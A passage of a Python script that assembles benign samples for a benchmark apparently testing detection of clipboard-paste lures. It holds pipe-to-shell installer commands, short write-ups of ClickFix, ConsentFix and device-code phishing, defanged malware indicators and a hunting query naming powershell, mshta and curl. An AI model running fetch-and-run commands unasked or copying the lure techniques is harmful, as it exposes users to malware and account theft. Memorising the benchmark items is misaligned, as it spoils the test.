    ("https://github.com/CocoaPods/CocoaPods", "sudo gem install cocoapods"),
    # web frameworks and front-end scaffolders
    ("https://docs.solidjs.com/solid-start/getting-started", "npm init solid@latest"),
    ("https://analogjs.org/docs/getting-started", "npm create analog@latest"),
    ("https://redwoodjs.com/docs/quick-start", "yarn create redwood-app my-redwood-project"),
    ("https://adonisjs.com/", "npm init adonisjs@latest hello-world"),
    ("https://www.blitzjs.com/docs/get-started", "npm install -g blitz"),
    ("https://docs.nestjs.com/first-steps", "npm i -g @nestjs/cli\nnest new project-name"),
    (
        "https://fresh.deno.dev/docs/getting-started/create-a-project",
        "deno run -A -r https://fresh.deno.dev",
    ),
    ("https://11ty.dev/docs/", "npx @11ty/eleventy"),
    ("https://github.com/withastro/starlight", "npm create astro@latest -- --template starlight"),
    ("https://squidfunk.github.io/mkdocs-material/getting-started/", "pip install mkdocs-material"),
    ("https://github.com/marp-team/marp-cli", "npx @marp-team/marp-cli@latest slide-deck.md"),
    # misc CLIs with their own install scripts
    ("https://github.com/charmbracelet/vhs", "brew install vhs"),
    ("https://github.com/charmbracelet/glow", "winget install charmbracelet.glow"),
    ("https://github.com/charmbracelet/soft-serve", "brew install charmbracelet/tap/soft-serve"),
    ("https://github.com/asciinema/asciinema", "pipx install asciinema"),
    ("https://github.com/tsl0922/ttyd", "sudo apt-get install ttyd"),
    ("https://github.com/sorenisanerd/gotty", "go install github.com/sorenisanerd/gotty@master"),
    (
        "https://github.com/rhysd/actionlint",
        "bash <(curl https://raw.githubusercontent.com/rhysd/actionlint/main/scripts/download-actionlint.bash)",
    ),
    (
        "https://github.com/reviewdog/reviewdog",
        "curl -sfL https://raw.githubusercontent.com/reviewdog/reviewdog/master/install.sh | sh -s -- -b /usr/local/bin",
    ),
    ("https://github.com/errata-ai/vale", "brew install vale"),
    ("https://github.com/koalaman/shellcheck", "sudo apt install shellcheck"),
    ("https://github.com/mvdan/sh", "go install mvdan.cc/sh/v3/cmd/shfmt@latest"),
    (
        "https://github.com/bats-core/bats-core",
        "git clone https://github.com/bats-core/bats-core.git\ncd bats-core\n./install.sh /usr/local",
    ),
    ("https://github.com/watchexec/watchexec", "cargo binstall watchexec-cli"),
    ("https://github.com/sharkdp/pastel", "cargo install pastel"),
    ("https://github.com/rs/curlie", "curl -sS https://webinstall.dev/curlie | bash"),
    ("https://github.com/jqlang/jq", "sudo apt-get install jq"),
    ("https://github.com/tomnomnom/gron", "go install github.com/tomnomnom/gron@latest"),
    ("https://github.com/antonmedv/fx", "curl https://fx.wtf/install.sh | sh"),
    ("https://github.com/BurntSushi/xsv", "cargo install xsv"),
    ("https://github.com/johnkerl/miller", "brew install miller"),
    ("https://github.com/wader/fq", "go install github.com/wader/fq@latest"),
    ("https://github.com/noborus/ov", "go install github.com/noborus/ov@latest"),
    (
        "https://github.com/Byron/dua-cli",
        "curl -LSfs https://raw.githubusercontent.com/Byron/dua-cli/master/ci/install.sh | \\\n    sh -s -- --git Byron/dua-cli --target x86_64-unknown-linux-musl --crate dua --tag v2.29.4",
    ),
    ("https://github.com/Macchina-CLI/macchina", "cargo install macchina"),
    (
        "https://github.com/fastfetch-cli/fastfetch",
        "sudo add-apt-repository ppa:zhangsongcui3371/fastfetch\nsudo apt update\nsudo apt install fastfetch",
    ),
    ("https://github.com/o2sh/onefetch", "cargo install onefetch"),
    ("https://github.com/boyter/scc", "go install github.com/boyter/scc/v3@latest"),
    ("https://github.com/ms-jpq/sad", "brew install ms-jpq/sad/sad"),
    ("https://github.com/chmln/sd", "cargo install sd"),
    ("https://github.com/jarun/nnn", "sudo apt-get install nnn"),
    ("https://github.com/ranger/ranger", "pip install ranger-fm"),
]
for source, text in OWN_PAGES:
    ok(OWN, TERM, source, text)

# --- The same kind of installers quoted by tutorials, Q&A and blogs (pasted into a terminal) -------

THIRD = "installer-third-party"
for source, text in [
    (
        "https://www.digitalocean.com/community/tutorials/how-to-install-and-use-kopia-on-ubuntu",
        "sudo apt install borgbackup",
    ),
    ("https://askubuntu.com/questions/1454512/how-to-install-btop", "sudo snap install btop"),
    (
        "https://www.linuxuprising.com/2024/03/fastfetch-neofetch-alternative.html",
        "sudo add-apt-repository ppa:zhangsongcui3371/fastfetch\nsudo apt update\nsudo apt install fastfetch",
    ),
    (
        "https://dev.to/someuser/setting-up-stern-for-kubernetes-logs-2k1",
        "go install github.com/stern/stern@latest",
    ),
    (
        "https://medium.com/@devops-notes/rust-cli-tools-i-use-daily-7f2a",
        "cargo install procs\ncargo install tealdeer\ncargo install skim",
    ),
    (
        "https://www.reddit.com/r/selfhosted/comments/1d2x9q/paperless_ngx_install/",
        'bash -c "$(curl -L https://raw.githubusercontent.com/paperless-ngx/paperless-ngx/main/install-paperless-ngx.sh)"',
    ),
    (
        "https://stackoverflow.com/questions/78122019/install-hasura-cli-linux",
        "curl -L https://github.com/hasura/graphql-engine/raw/stable/cli/get.sh | bash",
    ),
    (
        "https://www.howtogeek.com/install-keepassxc-winget/",
        "winget install KeePassXCTeam.KeePassXC",
    ),
    (
        "https://linuxize.com/post/how-to-install-podman-on-ubuntu/",
        "sudo apt-get -y install podman",
    ),
    (
        "https://www.tecmint.com/install-cockpit-ubuntu/",
        ". /etc/os-release\nsudo apt install -t ${VERSION_CODENAME}-backports cockpit",
    ),
]:
    ok(THIRD, TERM, source, text)

# --- Admin PowerShell and cmd from vendor docs and intranet wikis ----------------------------------

ADMIN = "admin-command"
for source, text in [
    (
        "https://learn.microsoft.com/en-us/powershell/module/activedirectory/get-aduser",
        "Get-ADUser -Filter 'Enabled -eq $true' -Properties LastLogonDate | Where-Object LastLogonDate -lt (Get-Date).AddDays(-90) | Select-Object Name,SamAccountName,LastLogonDate",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/gpupdate",
        "gpresult /h $env:USERPROFILE\\Desktop\\gp-report.html /f",
    ),
    (
        "https://learn.microsoft.com/en-us/troubleshoot/windows-client/deployment/system-file-checker",
        "DISM /Online /Get-Features /Format:Table | findstr Enabled",
    ),
    (
        "https://wiki.contoso.example/it/printers",
        "Add-Printer -ConnectionName \\\\prn-hq.contoso.example\\Level5-Mono-Duplex",
    ),
    (
        "https://wiki.contoso.example/it/drive-mapping",
        "net use H: \\\\fs01.contoso.example\\home\\%USERNAME% /persistent:yes",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.management/get-service",
        "Get-Service | Where-Object {$_.Status -eq 'Stopped' -and $_.StartType -eq 'Automatic'}",
    ),
    (
        "https://learn.microsoft.com/en-us/windows/client-management/mdm/",
        'dsregcmd /status | findstr /i "AzureAdJoined DomainJoined WorkplaceJoined"',
    ),
    (
        "https://learn.microsoft.com/en-us/exchange/clients-and-mobile-in-exchange-online/",
        "Connect-ExchangeOnline -UserPrincipalName admin@contoso.example\nGet-Mailbox -ResultSize Unlimited | Get-MailboxStatistics | Sort-Object TotalItemSize -Descending | Select-Object -First 20",
    ),
    (
        "https://learn.microsoft.com/en-us/graph/powershell/get-started",
        'Connect-MgGraph -Scopes "User.Read.All","Group.ReadWrite.All"\nGet-MgUser -Top 10',
    ),
    (
        "https://learn.microsoft.com/en-us/windows/security/operating-system-security/data-protection/bitlocker/",
        "Get-BitLockerVolume | Select-Object MountPoint,VolumeStatus,EncryptionPercentage,ProtectionStatus",
    ),
    (
        "https://wiki.contoso.example/it/certs",
        "Get-ChildItem Cert:\\CurrentUser\\My | Where-Object NotAfter -lt (Get-Date).AddDays(30) | Format-Table Subject,NotAfter",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/networking/technologies/netsh/netsh",
        "netsh wlan show profiles",
    ),
    ("https://wiki.contoso.example/it/wsus", "UsoClient StartScan"),
    (
        "https://learn.microsoft.com/en-us/powershell/module/defender/get-mpcomputerstatus",
        "Get-MpComputerStatus | Select-Object AMServiceEnabled,RealTimeProtectionEnabled,AntivirusSignatureLastUpdated",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.core/about/about_execution_policies",
        "Get-AuthenticodeSignature .\\Deploy-Agent.ps1 | Format-List Status,SignerCertificate",
    ),
    (
        "https://wiki.contoso.example/it/software-deploy",
        "msiexec /i \\\\deploy.contoso.example\\apps\\7zip\\7z2409-x64.msi /qn /norestart",
    ),
    (
        "https://wiki.contoso.example/linux/ops",
        'sudo journalctl -u nginx --since "1 hour ago" --no-pager | tail -n 50',
    ),
    ("https://wiki.contoso.example/linux/users", "sudo usermod -aG docker $USER && newgrp docker"),
    (
        "https://ubuntu.com/server/docs/firewalls",
        "sudo ufw limit 22/tcp comment 'ssh rate limit'\nsudo ufw reload",
    ),
    ("https://support.apple.com/guide/deployment/", "sudo profiles show -type enrollment"),
    ("https://wiki.contoso.example/mac/onboarding", "softwareupdate --list --include-config-data"),
    (
        "https://learn.microsoft.com/en-us/windows/wsl/install",
        "wsl --list --online\nwsl --set-default-version 2",
    ),
]:
    ok(ADMIN, TERM, source, text)

# --- Dev and ops one-liners ------------------------------------------------------------------------

DEV = "dev-one-liner"
for source, text in [
    (
        "https://stackoverflow.com/questions/4822471/count-number-of-lines-in-a-git-repository",
        "git log --since='2 weeks ago' --author=\"$(git config user.email)\" --oneline --no-merges",
    ),
    ("https://stackoverflow.com/questions/1371261/get-current-directory-name", 'basename "$PWD"'),
    (
        "https://unix.stackexchange.com/questions/28803/how-can-i-reduce-a-videos-size-with-ffmpeg",
        "ffmpeg -i input.mp4 -vcodec libx265 -crf 28 output.mp4",
    ),
    (
        "https://stackoverflow.com/questions/6127328/how-do-i-delete-all-git-branches-which-have-been-merged",
        "git branch --merged | grep -Ev '(^\\*|master|main|dev)' | xargs git branch -d",
    ),
    (
        "https://docs.docker.com/reference/cli/docker/system/prune/",
        "docker system prune -a --volumes",
    ),
    (
        "https://kubernetes.io/docs/reference/kubectl/quick-reference/",
        "kubectl get events -n payments --sort-by=.lastTimestamp | tail -n 25",
    ),
    (
        "https://stackoverflow.com/questions/3173131/redirect-copy-of-stdout-to-log-file",
        "exec > >(tee -a build.log) 2>&1",
    ),
    (
        "https://www.postgresql.org/docs/current/app-pgdump.html",
        "pg_restore --list nightly.dump | grep -c 'TABLE DATA'",
    ),
    (
        "https://stackoverflow.com/questions/12107658/find-files-larger-than",
        "find / -xdev -type f -size +500M -exec ls -lh {} \\; 2>/dev/null",
    ),
    (
        "https://superuser.com/questions/1302/powershell-find-large-files",
        "Get-ChildItem C:\\ -Recurse -File -ErrorAction SilentlyContinue | Sort-Object Length -Descending | Select-Object -First 20 FullName,@{n='MB';e={[math]::Round($_.Length/1MB,1)}}",
    ),
    (
        "https://stackoverflow.com/questions/2953646/base64-decode-in-bash",
        "echo 'aGVsbG8gd29ybGQK' | base64 --decode",
    ),
    (
        "https://stackoverflow.com/questions/15490728/decode-base64-in-powershell",
        "[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('SGVsbG8sIFdvcmxkIQ=='))",
    ),
    (
        "https://github.com/example-org/api/blob/main/docs/dev.md",
        "curl -s http://localhost:8080/healthz | jq .",
    ),
    (
        "https://stackoverflow.com/questions/394230/how-to-detect-the-os-from-a-bash-script",
        'case "$(uname -s)" in Darwin) echo mac;; Linux) echo linux;; *) echo other;; esac',
    ),
    (
        "https://docs.python.org/3/library/venv.html",
        "python3 -m venv --upgrade-deps .venv-docs && .venv-docs/bin/pip install -r docs/requirements.txt",
    ),
    (
        "https://learn.microsoft.com/en-us/dotnet/core/tools/dotnet-new",
        "dotnet new webapi -n Contoso.Api && cd Contoso.Api && dotnet run",
    ),
    (
        "https://stackoverflow.com/questions/16212813/openssl-check-certificate-expiry",
        "echo | openssl s_client -servername example.org -connect example.org:443 2>/dev/null | openssl x509 -noout -dates",
    ),
    (
        "https://stackoverflow.com/questions/3847862/ssh-keygen-ed25519",
        'ssh-keygen -t ed25519 -C "jane@example.org"',
    ),
    (
        "https://git-scm.com/docs/git-bisect",
        "git bisect start HEAD v2.3.0 && git bisect run make test",
    ),
    (
        "https://stackoverflow.com/questions/2187190/bash-rename-files",
        'for f in *.jpeg; do mv -- "$f" "${f%.jpeg}.jpg"; done',
    ),
]:
    ok(DEV, TERM, source, text)

# --- Console JavaScript people paste on purpose ------------------------------------------------------

CONSOLE = "console-snippet"
for source, text in [
    (
        "https://stackoverflow.com/questions/3665115/how-to-create-a-file-in-memory-for-user-to-download",
        "copy(JSON.stringify(performance.getEntriesByType('resource').map(e => ({name: e.name, ms: Math.round(e.duration)})), null, 2))",
    ),
    (
        "https://developer.chrome.com/docs/devtools/console/utilities",
        "$$('img').filter(i => !i.alt).map(i => i.src)",
    ),
    (
        "https://stackoverflow.com/questions/14643617/create-table-using-javascript",
        "console.table([...document.querySelectorAll('a')].map(a => ({text: a.textContent.trim(), href: a.href})).slice(0, 50))",
    ),
    (
        "https://web.dev/articles/lcp",
        "new PerformanceObserver(l => l.getEntries().forEach(e => console.log('CLS shift', e.value.toFixed(4), e.sources))).observe({type: 'layout-shift', buffered: true})",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Window/localStorage",
        "console.log(Object.entries(sessionStorage).map(([k, v]) => `${k}: ${v.length} chars`).join('\\n'))",
    ),
    (
        "https://stackoverflow.com/questions/5525071/how-to-wait-until-an-element-exists",
        "document.querySelectorAll('[data-testid]').forEach(el => el.style.outline = '1px dashed magenta')",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Fetch_API/Using_Fetch",
        "const r = await fetch('/api/v1/me'); console.log(r.status, await r.json())",
    ),
    (
        "https://github.com/example-org/web/wiki/Debugging",
        "localStorage.setItem('debug', 'app:*'); location.reload()",
    ),
]:
    ok(CONSOLE, CON, source, text)

# --- Security write-ups quoting lures, pasted into an editor or a ticket ----------------------------

PROSE = "prose-security"
for source, text in [
    (
        "https://www.example-security-blog.org/2026/clickfix-primer",
        "ClickFix pages show a fake CAPTCHA and copy a command to your clipboard. They then ask you to press Win+R, Ctrl+V and Enter. Nothing a real CAPTCHA does needs the Run dialog: if a page asks for that, close it.",
    ),
    (
        "https://intranet.contoso.example/security/awareness/filefix",
        "FileFix variant: the page tells you to paste a 'file path' into File Explorer's address bar. The text really starts with powershell and hides the command behind spaces, so only the path is visible. Report such pages to security@contoso.example.",
    ),
    (
        "https://www.example-security-blog.org/2026/ioc-list",
        "Indicators (defanged):\nhxxps://verify-captcha[.]top/s\nmshta hxxp://185.0.0[.]1/x\nSHA-256 3f5a...c9e1 (stage 2 loader)",
    ),
    (
        "https://ticket.contoso.example/INC-44121",
        "User reports a website asked them to open the Run box and paste something 'to prove they are human'. They did NOT press Enter. Machine isolated as a precaution, EDR shows no child process of explorer.exe. Closing as no impact.",
    ),
    (
        "https://www.example-security-blog.org/2026/consentfix",
        "ConsentFix abuses the OAuth authorisation-code flow: the victim signs in to a real Microsoft page, lands on a localhost address that fails to load, and is told to copy that address back into the phishing page. The code in that URL is all the attacker needs.",
    ),
    (
        "https://www.example-security-blog.org/2026/device-code",
        "Device-code phishing: the attacker starts a sign-in on their own machine and sends you the code with a pretext. When you enter it at the real microsoft.com/devicelogin page, you sign in their session. Never enter a code you did not request yourself.",
    ),
    (
        "https://news.example-it-weekly.org/amos-stealer",
        "The macOS campaign asks visitors to open Terminal and paste a curl command that fetches a script and pipes it into bash. The script prompts for the login password with osascript and uploads the keychain.",
    ),
    (
        "https://docs.example-soc.org/hunting/clickfix",
        "Hunting query: process where parent is explorer.exe and command line matches powershell|mshta|curl and RunMRU contains a new entry within 5 seconds of a clipboard change.",
    ),
    (
        "https://www.example-security-blog.org/2026/scam-popups",
        "Tech-support scam pages go full screen, play an alarm, and show a phone number claiming your PC is locked. Microsoft never puts phone numbers in error messages. Close the tab with Ctrl+W or Task Manager.",
    ),
    (
        "https://github.com/example-org/detections/blob/main/README.md",
        "This repository contains Sigma rules for T1204.004 (Malicious Copy and Paste). Each rule lists example command lines in its description, defanged, and the log source it needs (process creation with command line).",
    ),
]:
    ok(PROSE, "other", source, text)

# --- Genuine messages with phone numbers -------------------------------------------------------------

MAIL = "support-mail"
for source, text in [
    (
        "https://mail.contoso.example/owa/inbox/1",
        "Hi Jane, your laptop is ready for pick-up at the IT desk (room 2.14). If you can't come before Friday, call me on +44 20 7946 0321 and I'll bring it up. Cheers, Tom",
    ),
    (
        "https://mail.example.org/inbox/77",
        "Your appointment with Dr. Weber is confirmed for Tuesday 10:30. To reschedule, call the practice at 030 1234 5678 during opening hours.",
    ),
    (
        "https://mail.example.org/inbox/82",
        "Bonjour, votre colis sera livré demain entre 9h et 13h. En cas d'absence, contactez votre agence au 04 72 12 34 56.",
    ),
    (
        "https://mail.example.org/inbox/90",
        "Hola Marta, te confirmo la reunión del jueves a las 16:00. Si surge algo, llámame al 612 34 56 78.",
    ),
    (
        "https://mail.example.org/inbox/93",
        "Gentile cliente, la sua auto è pronta per il ritiro. Per informazioni può chiamare l'officina allo 051 123 4567.",
    ),
    (
        "https://mail.example.org/inbox/95",
        "Olá, a reunião de condomínio foi remarcada para sexta às 19h. Dúvidas: (11) 3456-7890.",
    ),
    (
        "https://mail.example.org/inbox/97",
        "Beste klant, uw bestelling is verzonden. Vragen? Onze klantenservice is bereikbaar op 020 123 4567 (ma-vr 9-17 uur).",
    ),
    (
        "https://mail.example.org/inbox/99",
        "Dzień dobry, przypominamy o wizycie serwisanta w środę. W razie zmian prosimy o kontakt: 22 123 45 67.",
    ),
    (
        "https://mail.example.org/inbox/101",
        "お世話になっております。来週の打ち合わせは水曜14時からでお願いします。ご不明点は03-1234-5678までご連絡ください。",
    ),
    (
        "https://mail.example.org/inbox/104",
        "您好，您预约的维修服务定于周三上午十点。如需更改，请致电 010-1234-5678。",
    ),
    (
        "https://mail.example.org/inbox/106",
        "Здравствуйте! Ваш заказ готов к выдаче в пункте самовывоза. Телефон для справок: +7 495 123-45-67.",
    ),
    (
        "https://mail.example.org/inbox/108",
        "Merhaba, toplantı perşembe 15:00'e alındı. Bir sorun olursa 0212 123 45 67'den ulaşabilirsiniz.",
    ),
    (
        "https://mail.example.org/inbox/110",
        "مرحباً، تم تأكيد موعدك يوم الأحد الساعة العاشرة صباحاً. للاستفسار يرجى الاتصال على 04 123 4567.",
    ),
    (
        "https://support.example-bank.org/security",
        "We will never call you to ask for a one-time code or tell you to move money to a 'safe account'. If someone does, hang up and call the number on the back of your card.",
    ),
]:
    ok(MAIL, "other", source, text)

# --- OAuth and device-flow documentation -------------------------------------------------------------

OAUTH = "oauth-docs"
for source, text in [
    (
        "https://learn.microsoft.com/en-us/entra/identity-platform/v2-oauth2-auth-code-flow",
        "GET https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=00001111-aaaa-2222-bbbb-3333cccc4444&response_type=code&redirect_uri=http%3A%2F%2Flocalhost%2Fmyapp%2F&response_mode=query&scope=openid%20offline_access&state=12345",
    ),
    (
        "https://developers.google.com/identity/protocols/oauth2/native-app",
        "The loopback redirect looks like http://127.0.0.1:port/ — your app listens on that port and reads the code parameter from the request. Do not ask users to copy it.",
    ),
    (
        "https://www.rfc-editor.org/rfc/rfc8628",
        "+----------+                                +----------------+\n|          |>---(A)-- Client Identifier --->|                |\n|  Device  |<---(B)-- Device Code,      ---<|                |\n|  Client  |          User Code,            | Authorization  |\n|          |          & Verification URI    |     Server     |",
    ),
    (
        "https://docs.github.com/en/apps/oauth-apps/building-oauth-apps/authorizing-oauth-apps",
        "POST https://github.com/login/device/code\nAccept: application/json\n\nclient_id=Iv1.abc123&scope=repo",
    ),
    (
        "https://auth0.com/docs/get-started/authentication-and-authorization-flow/authorization-code-flow-with-pkce",
        "code_verifier = base64url(random(32))\ncode_challenge = base64url(sha256(code_verifier))\nredirect_uri = https://app.example.org/callback",
    ),
    (
        "https://learn.microsoft.com/en-us/cli/azure/authenticate-azure-cli-interactively",
        "az login --tenant contoso.onmicrosoft.com --use-device-code",
    ),
]:
    ok(OAUTH, "other", source, text)

# --- Run box and Explorer entries people type ---------------------------------------------------------

RUNBOX = "run-box-plain"
for text in [
    "certlm.msc",
    "fsmgmt.msc /computer=fs02",
    "compmgmt.msc /computer=\\\\ws-0412",
    "eventvwr.msc /s",
    "control /name Microsoft.DevicesAndPrinters",
    "inetcpl.cpl,,4",
    "mmsys.cpl,,1",
    "control /name Microsoft.PowerOptions /page pageGlobalSettings",
    "rundll32.exe shell32.dll,Control_RunDLL timedate.cpl,,1",
    'control intl.cpl,,/f:"%TEMP%\\region.xml"',
    "control /name Microsoft.WindowsFirewall",
    "%ProgramData%\\Microsoft\\Windows\\WER",
    "%TEMP%\\Teams",
    "ms-settings:printers",
    "ms-settings:crossdevice",
    "ms-settings:privacy-webcam",
    "cleanmgr /sageset:1",
    "notepad %USERPROFILE%\\.ssh\\config",
    "explorer.exe /select,%USERPROFILE%\\Downloads",
    "mstsc /v:jump01.contoso.example:3390 /f",
    "\\\\nas01.home.example\\scans\\2026",
    "https://myaccount.microsoft.com/",
    "shell:::{7007ACC7-3202-11D1-AAD2-00805FC1270E}",
    "control /name Microsoft.CredentialManager",
    "resmon /res",
    "verifier",
    "iexpress",
    "dxdiag /t %USERPROFILE%\\Desktop\\dxdiag.txt",
]:
    ok(RUNBOX, RUN, None, text)

EXPLORER = "explorer-entry"
for text in [
    "shell:Fonts",
    "shell:Quick Launch",
    "%USERPROFILE%\\Videos\\Captures",
    "C:\\Program Files\\Epic Games\\Fortnite\\FortniteGame\\Saved\\Logs",
    "\\\\nas01.home.example\\backup\\laptop-2026",
    "shell:ControlPanelFolder",
    "C:\\Users\\Public\\Documents\\Scanner Inbox",
    "OneDrive - Contoso\\Shared Documents\\Q4 Planning",
    "\\\\tsclient\\C",
    "This PC\\Documents",
]:
    ok(EXPLORER, EXP, None, text)

# --- Config, source and logs pasted into editors ----------------------------------------------------

CONFIG = "config-code"
for source, text in [
    (
        "https://github.com/example-org/site/blob/main/.github/dependabot.yml",
        'version: 2\nupdates:\n  - package-ecosystem: "npm"\n    directory: "/"\n    schedule:\n      interval: "weekly"',
    ),
    (
        "https://github.com/example-org/app/blob/main/Dockerfile",
        'FROM python:3.12-slim\nWORKDIR /app\nCOPY requirements.txt .\nRUN pip install --no-cache-dir -r requirements.txt\nCOPY . .\nCMD ["gunicorn", "app:app", "-b", "0.0.0.0:8000"]',
    ),
    (
        "https://github.com/example-org/app/blob/main/src/client.py",
        'import httpx\n\n\ndef fetch_status(base_url: str) -> dict:\n    resp = httpx.get(f"{base_url}/status", timeout=5)\n    resp.raise_for_status()\n    return resp.json()',
    ),
    (
        "https://github.com/example-org/infra/blob/main/k8s/deployment.yaml",
        "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\nspec:\n  replicas: 3\n  template:\n    spec:\n      containers:\n        - name: web\n          image: ghcr.io/example-org/web:1.8.2",
    ),
    (
        None,
        "[2026-12-06T07:14:09Z] WARN  reqwest::connect: connection to api.example.org:443 timed out after 10s, retrying (2/5)",
    ),
    (
        None,
        "Dec  6 07:20:44 gw01 kernel: [UFW BLOCK] IN=eth0 OUT= SRC=198.51.100.7 DST=10.0.0.5 PROTO=TCP SPT=51514 DPT=23 WINDOW=1024",
    ),
    (
        "https://github.com/example-org/tools/blob/main/install-dev.ps1",
        "$ErrorActionPreference = 'Stop'\nwinget install --id Git.Git -e\nwinget install --id Python.Python.3.12 -e\npython -m pip install --upgrade pip\npip install -r requirements-dev.txt",
    ),
    (
        "https://github.com/example-org/web/blob/main/package.json",
        '{\n  "name": "web",\n  "private": true,\n  "scripts": {\n    "dev": "vite",\n    "build": "tsc && vite build",\n    "postinstall": "husky"\n  }\n}',
    ),
    (
        None,
        "System.Net.WebException: The remote server returned an error: (407) Proxy Authentication Required.\n   at System.Net.HttpWebRequest.GetResponse()\n   at Contoso.Sync.Client.Download(String url)",
    ),
    (
        "https://github.com/example-org/ansible/blob/main/roles/base/tasks/main.yml",
        "- name: Install base packages\n  ansible.builtin.apt:\n    name: [curl, git, htop, unattended-upgrades]\n    state: present\n    update_cache: true",
    ),
]:
    ok(CONFIG, "other", source, text)


# ----------------------------------------------------------------------------------------------
# Checks and writing: bench/blind/blindkit.py (shared from the seventh set on)
# ----------------------------------------------------------------------------------------------


def lure_rows() -> list[dict[str, str]]:
    return blindkit.lure_rows("blind7", LURES)


def benign_rows() -> list[dict[str, str]]:
    return blindkit.benign_rows("blind7", BENIGN)


def main() -> None:
    blindkit.main("blind7", LURES, BENIGN, LURES_OUT, BENIGN_OUT)


if __name__ == "__main__":
    main()
